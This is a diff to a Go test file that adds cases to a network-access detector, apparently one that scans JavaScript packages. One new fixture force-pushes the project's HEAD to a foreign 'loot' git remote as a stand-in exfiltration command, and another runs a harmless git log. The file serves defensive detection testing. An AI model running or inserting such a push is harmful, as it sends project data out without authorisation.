@@ -11,6 +11,10 @@ func TestNetworkAccess(t *testing.T) {
 	rt.Check(t, NetworkAccess{}, []rt.Case{
 		{"https_request", map[string]string{"index.js": `require("https").request({hostname: "api.example.com"})`}, finding.SeverityLow},
 		{"no_network", map[string]string{"index.js": `require("path").join("a", "b")`}, finding.SeverityNone},
+		// git pushing to a foreign remote moves data
+		{"git_push_foreign", map[string]string{"index.js": `require("child_process").execFileSync("git", ["push", "-f", "https://git.example.invalid/drop/loot.git", "HEAD:refs/heads/x"])`}, finding.SeverityLow},
+		// git reading the project's own history talks to nobody
+		{"git_log", map[string]string{"index.js": `require("child_process").execFileSync("git", ["log", "-1", "--format=%H"])`}, finding.SeverityNone},
 	})
 }
 
